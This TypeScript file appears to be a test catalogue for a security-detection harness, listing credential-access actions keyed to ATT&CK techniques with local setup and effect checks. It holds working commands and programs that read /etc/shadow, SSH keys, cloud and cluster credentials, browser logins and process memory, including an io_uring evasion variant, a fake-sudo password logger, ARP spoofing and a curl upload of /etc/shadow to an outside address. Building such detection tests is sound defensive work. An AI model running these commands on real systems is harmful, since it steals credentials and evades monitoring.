import type { Action } from '../action.ts'
import { received, sleepingVictim, webServer } from '../loopback-server.ts'

const readInC = (path: string) => `
#include <fcntl.h>
#include <unistd.h>
int main() { char b[4096]; int f = open("${path}", O_RDONLY); return write(1, b, read(f, b, 4096)) < 1; }`

const byRing = `
#include <fcntl.h>
#include <string.h>
#include <stdio.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/io_uring.h>
int main() {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  int r = syscall(425, 4, &p);
  if (r < 0) return 1;
  char *sq = mmap(0, p.sq_off.array + 4 * p.sq_entries, 3, MAP_SHARED, r, 0);
  char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), 3, MAP_SHARED, r, 0x8000000);
  struct io_uring_sqe *e = mmap(0, p.sq_entries * sizeof *e, 3, MAP_SHARED, r, 0x10000000);
  memset(e, 0, sizeof *e);
  e->opcode = IORING_OP_OPENAT;
  e->fd = AT_FDCWD;
  e->addr = (uint64_t)"/etc/shadow";
  ((unsigned *)(sq + p.sq_off.array))[0] = 0;
  *(unsigned *)(sq + p.sq_off.tail) = 1;
  syscall(426, r, 1, 1, 1, 0, 0);
  int f = ((struct io_uring_cqe *)(cq + p.cq_off.cqes))->res;
  char b[4096];
  return write(1, b, read(f, b, 4096)) < 1;
}`

const hashes = 'grep -q ann: $OUT'
const key = 'grep -q OPENSSH $OUT'

/** Passwords, keys and tokens. */
export const credentialAccess: readonly Action[] = [
  {
    id: 'hashes-cat',
    title: 'Password hashes read by cat',
    technique: 'T1003.008',
    run: 'cat /etc/shadow',
    effect: hashes,
  },
  {
    id: 'hashes-builtin',
    title: 'Password hashes read by the shell itself',
    technique: 'T1003.008',
    run: 'while read -r line; do echo "$line"; done </etc/shadow',
    effect: hashes,
  },
  {
    id: 'hashes-python',
    title: 'Password hashes read by a Python program',
    technique: 'T1003.008',
    program: { language: 'python', text: 'print(open("/etc/shadow").read())' },
    run: 'python3 $PROGRAM',
    effect: hashes,
  },
  {
    id: 'hashes-c',
    title: 'Password hashes read by a compiled program',
    technique: 'T1003.008',
    program: { language: 'c', text: readInC('/etc/shadow') },
    run: '$PROGRAM',
    effect: hashes,
  },
  {
    id: 'hashes-busybox',
    title: 'Password hashes read by a renamed busybox',
    technique: 'T1003.008',
    shell: 'busybox',
    run: 'cp /home/ann/busybox /tmp/cat; cd /etc; /tmp/cat shadow',
    effect: hashes,
  },
  {
    id: 'hashes-ring',
    title: 'Password hashes opened by io_uring',
    technique: 'T1003.008',
    program: { language: 'c', text: byRing },
    run: '$PROGRAM',
    effect: hashes,
  },
  {
    id: 'hashes-copied',
    title: 'Password hashes copied',
    technique: 'T1003.008',
    run: 'cp /etc/shadow /tmp/s; cat /tmp/s',
    effect: hashes,
  },
  {
    id: 'hashes-linked',
    title: 'Password hashes read through a link',
    technique: 'T1003.008',
    run: 'ln -s /etc/shadow /tmp/s; tail -n 3 /tmp/s',
    effect: hashes,
  },
  {
    id: 'hashes-packed',
    title: 'Password hashes packed with other files',
    technique: 'T1003.008',
    run: 'tar -C / -cf /tmp/s.tar etc/passwd etc/shadow; tar -xOf /tmp/s.tar etc/shadow',
    effect: hashes,
  },
  {
    id: 'hashes-of-root-folder',
    title: 'Password hashes read through the root of a process',
    technique: 'T1003.008',
    run: 'cat /proc/self/root/etc/shadow',
    effect: hashes,
  },
  {
    id: 'memory-gcore',
    title: 'Memory of a process dumped by gcore',
    technique: 'T1003.007',
    needs: ['gcore'],
    before: sleepingVictim,
    run: 'gcore -o /tmp/core $(cat /run/victim)',
    effect: 'ls /tmp/core.*',
  },
  {
    id: 'memory-python',
    title: 'Memory of a process read by a Python program',
    technique: 'T1003.007',
    before: sleepingVictim,
    program: {
      language: 'python',
      text: 'import re, sys\np = sys.argv[1]\nm = re.search(r"(\\w+)-(\\w+) rw.*stack", open("/proc/%s/maps" % p).read())\nf = open("/proc/%s/mem" % p, "rb", 0); f.seek(int(m[1], 16)); print(len(f.read(4096)))',
    },
    run: 'python3 $PROGRAM $(cat /run/victim)',
    effect: 'grep -q 4096 $OUT',
  },
  {
    id: 'memory-dd',
    title: 'Memory of a process read by dd',
    technique: 'T1003.007',
    before: sleepingVictim,
    run: `read -r pid </run/victim
at=$(sed -n '/stack/s/-.*//p' /proc/$pid/maps)
dd if=/proc/$pid/mem bs=4096 count=1 skip=$((0x$at / 4096)) of=/tmp/m`,
    effect: '[ -s /tmp/m ]',
  },
  {
    id: 'environment-of-others',
    title: 'Environment of other processes read',
    technique: 'T1003.007',
    before: `TOKEN=secret ${sleepingVictim}`,
    run: 'cat /proc/*/environ | tr "\\0" "\\n" | grep TOKEN',
    effect: 'grep -q secret $OUT',
  },
  {
    id: 'key-cat',
    title: 'Private key read by cat',
    technique: 'T1552.004',
    run: 'cat /root/.ssh/id_rsa',
    effect: key,
  },
  {
    id: 'key-builtin',
    title: 'Private key of another user read by the shell itself',
    technique: 'T1552.004',
    run: 'while read -r line; do echo "$line"; done </home/ann/.ssh/id_rsa',
    effect: key,
  },
  {
    id: 'key-perl',
    title: 'Private keys read by a Perl program',
    technique: 'T1552.004',
    program: {
      language: 'perl',
      text: 'for (glob "/root/.ssh/id_* /home/*/.ssh/id_*") { open F, $_; print <F>; }',
    },
    run: 'perl $PROGRAM',
    effect: key,
  },
  {
    id: 'keys-searched',
    title: 'Private keys searched by find',
    technique: 'T1552.004',
    run: "find /home /root/.ssh -name 'id_rsa' -o -name '*.pem' 2>/dev/null",
    effect: 'grep -q id_rsa $OUT',
  },
  {
    id: 'keys-grep',
    title: 'Private keys searched by their content',
    technique: 'T1552.004',
    run: "grep -rl 'BEGIN OPENSSH PRIVATE KEY' /home/ann /root/.ssh",
    effect: 'grep -q id_rsa $OUT',
  },
  {
    id: 'passwords-grep',
    title: 'Passwords searched by grep',
    technique: 'T1552.001',
    run: 'grep -ri password= /var/www',
    effect: 'grep -q secret $OUT',
  },
  {
    id: 'passwords-find',
    title: 'Files with passwords searched by find',
    technique: 'T1552.001',
    run: "find /var/www /home/ann -name '*config*.php' -exec cat {} ';'",
    effect: 'grep -q secret $OUT',
  },
  {
    id: 'cloud-credentials',
    title: 'Credentials of a cloud read',
    technique: 'T1552.001',
    run: 'cat /root/.aws/credentials',
    effect: 'grep -q aws_secret $OUT',
  },
  {
    id: 'cloud-credentials-python',
    title: 'The same by a Python program',
    technique: 'T1552.001',
    program: { language: 'python', text: 'print(open("/root/.aws/credentials").read())' },
    run: 'python3 $PROGRAM',
    effect: 'grep -q aws_secret $OUT',
  },
  {
    id: 'cluster-credentials',
    title: 'Credentials of a cluster read',
    technique: 'T1552.001',
    run: 'cat /root/.kube/config',
    effect: 'grep -q apiVersion $OUT',
  },
  {
    id: 'history-cat',
    title: 'History searched for passwords',
    technique: 'T1552.003',
    run: 'cat /home/ann/.bash_history | grep -- -p',
    effect: 'grep -q secret $OUT',
  },
  {
    id: 'history-python',
    title: 'Histories read by a Python program',
    technique: 'T1552.003',
    program: { language: 'python', text: 'print(open("/home/ann/.bash_history").read())' },
    run: 'python3 $PROGRAM',
    effect: 'grep -q secret $OUT',
  },
  {
    id: 'metadata-curl',
    title: 'Metadata service of a cloud asked by curl',
    technique: 'T1552.005',
    needs: ['curl'],
    before: webServer(80, 'AccessKeyId\n'),
    run: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    effect: 'grep -q AccessKeyId $OUT',
  },
  {
    id: 'metadata-bash',
    title: 'Metadata service asked by redirections of bash',
    technique: 'T1552.005',
    shell: 'bash',
    before: webServer(80, 'AccessKeyId\n'),
    run: `exec 3<>/dev/tcp/169.254.169.254/80; printf 'GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n' >&3; for i in 1 2 3 4 5; do read -r line <&3; echo "$line"; done`,
    effect: 'grep -q AccessKeyId $OUT',
  },
  {
    id: 'metadata-python',
    title: 'Metadata service asked by a Python program',
    technique: 'T1552.005',
    before: webServer(80, 'AccessKeyId\n'),
    program: {
      language: 'python',
      text: 'import urllib.request as u\nprint(u.urlopen("http://169.254.169.254/latest/meta-data/").read())',
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q AccessKeyId $OUT',
  },
  {
    id: 'service-account-token',
    title: 'Token of a service account read',
    technique: 'T1528',
    before:
      'mkdir -p /run/secrets/kubernetes.io/serviceaccount; echo token >/run/secrets/kubernetes.io/serviceaccount/token',
    run: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    effect: 'grep -q token $OUT',
  },
  {
    id: 'service-account-token-builtin',
    title: 'The same by the shell itself',
    technique: 'T1528',
    before:
      'mkdir -p /run/secrets/kubernetes.io/serviceaccount; echo token >/run/secrets/kubernetes.io/serviceaccount/token',
    run: 'read -r t </run/secrets/kubernetes.io/serviceaccount/token; echo $t',
    effect: 'grep -q token $OUT',
  },
  {
    id: 'browser-passwords',
    title: 'Passwords of a browser copied',
    technique: 'T1555.003',
    run: 'cp /home/ann/.mozilla/firefox/x.default/logins.json /tmp/l',
    effect: '[ -s /tmp/l ]',
  },
  {
    id: 'browser-passwords-python',
    title: 'Passwords of a browser read by a Python program',
    technique: 'T1555.003',
    program: {
      language: 'python',
      text: 'import glob\nfor p in glob.glob("/home/*/.mozilla/firefox/*/logins.json"): print(open(p).read())',
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q logins $OUT',
  },
  {
    id: 'browser-cookies',
    title: 'Cookies of a browser copied',
    technique: 'T1539',
    run: 'cp /home/ann/.config/google-chrome/Default/Cookies /tmp/c',
    effect: '[ -s /tmp/c ]',
  },
  {
    id: 'password-store',
    title: 'Key ring of a desktop copied',
    technique: 'T1555',
    before:
      'mkdir -p /home/ann/.local/share/keyrings; echo x >/home/ann/.local/share/keyrings/login.keyring',
    run: 'cp -r /home/ann/.local/share/keyrings /tmp/k',
    effect: '[ -s /tmp/k/login.keyring ]',
  },
  {
    id: 'kerberos-ticket',
    title: 'Ticket of Kerberos copied',
    technique: 'T1558.005',
    before: 'echo x >/tmp/krb5cc_4242',
    run: 'cp /tmp/krb5cc_4242 /home/ann/t',
    effect: '[ -s /home/ann/t ]',
  },
  {
    id: 'packets-python',
    title: 'Packets captured by a Python program',
    technique: 'T1040',
    program: {
      language: 'python',
      text: `import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"pw", ("127.0.0.1", 9))
s.settimeout(2); print("got" if b"pw" in s.recv(999) else "")`,
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q got $OUT',
  },
  {
    id: 'packets-c',
    title: 'Packets captured by a compiled program',
    technique: 'T1040',
    program: {
      language: 'c',
      text: '#include <arpa/inet.h>\n#include <sys/socket.h>\nint main() { return socket(AF_PACKET, SOCK_RAW, htons(3)) < 0; }',
    },
    run: '$PROGRAM',
  },
  {
    id: 'terminal-traced',
    title: 'Input of a terminal recorded by strace',
    technique: 'T1056.001',
    needs: ['strace'],
    before: sleepingVictim,
    run: 'timeout 1 strace -f -e trace=read -p $(cat /run/victim) -o /tmp/k; :',
    effect: '[ -e /tmp/k ]',
  },
  {
    id: 'terminal-recorded',
    title: 'Session recorded by script',
    technique: 'T1056.001',
    needs: ['script'],
    run: 'script -q -f -c id /var/tmp/.log',
    effect: 'grep -q uid= /var/tmp/.log',
  },
  {
    id: 'keyboard-opened',
    title: 'Events of the keyboard read',
    technique: 'T1056.001',
    before: 'mkdir -p /dev/input; echo x >/dev/input/event0',
    run: 'cat /dev/input/event0 >/tmp/k',
    effect: '[ -s /tmp/k ]',
  },
  {
    id: 'fake-sudo',
    title: 'Command that asks for the password instead of sudo',
    technique: 'T1056',
    as: 'ann',
    run: `echo 'sudo() { read -rsp "[sudo] password: " p; echo "$p" >>/tmp/.p; command sudo "$@"; }' >>~/.bashrc`,
    effect: 'grep -q sudo /home/ann/.bashrc',
  },
  {
    id: 'passwords-guessed',
    title: 'Passwords guessed against a hash by openssl',
    technique: 'T1110.002',
    needs: ['openssl'],
    run: 'for each in a b secret; do [ "$(openssl passwd -6 -salt x $each)" = "$(openssl passwd -6 -salt x secret)" ] && echo found $each; done; :',
    effect: 'grep -q found $OUT',
  },
  {
    id: 'passwords-tried',
    title: 'Passwords tried by su',
    technique: 'T1110.001',
    needs: ['su'],
    as: 'ann',
    run: 'for each in a b c d e f; do echo $each | timeout 5 su root -c id; done; :',
    effect: 'grep -qi "fail\\|password" $OUT',
  },
  {
    id: 'traffic-redirected',
    title: 'Answers for addresses of others sent',
    technique: 'T1557.002',
    program: {
      language: 'python',
      text: `import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("lo", 0))
s.send(b"\\xff" * 6 + b"\\x02\\0\\0\\0\\0\\1" + b"\\x08\\x06\\0\\1\\x08\\0\\6\\4\\0\\2" + b"\\0" * 20)`,
    },
    run: 'python3 $PROGRAM',
  },
  {
    id: 'key-ring',
    title: 'Keys of the kernel read',
    technique: 'T1555',
    program: {
      language: 'c',
      text: '#include <sys/syscall.h>\n#include <unistd.h>\nint main() { char b[64]; return syscall(SYS_keyctl, 11, -3, b, 64) < 0 && syscall(SYS_keyctl, 0, -3, 1) < 0; }',
    },
    run: '$PROGRAM',
  },
  {
    id: 'credentials-sent',
    title: 'Password hashes sent by curl',
    technique: 'T1003.008',
    needs: ['curl'],
    before: webServer(80),
    run: 'curl -s -F f=@/etc/shadow http://198.51.100.7/u',
    effect: received('ann:'),
  },
]
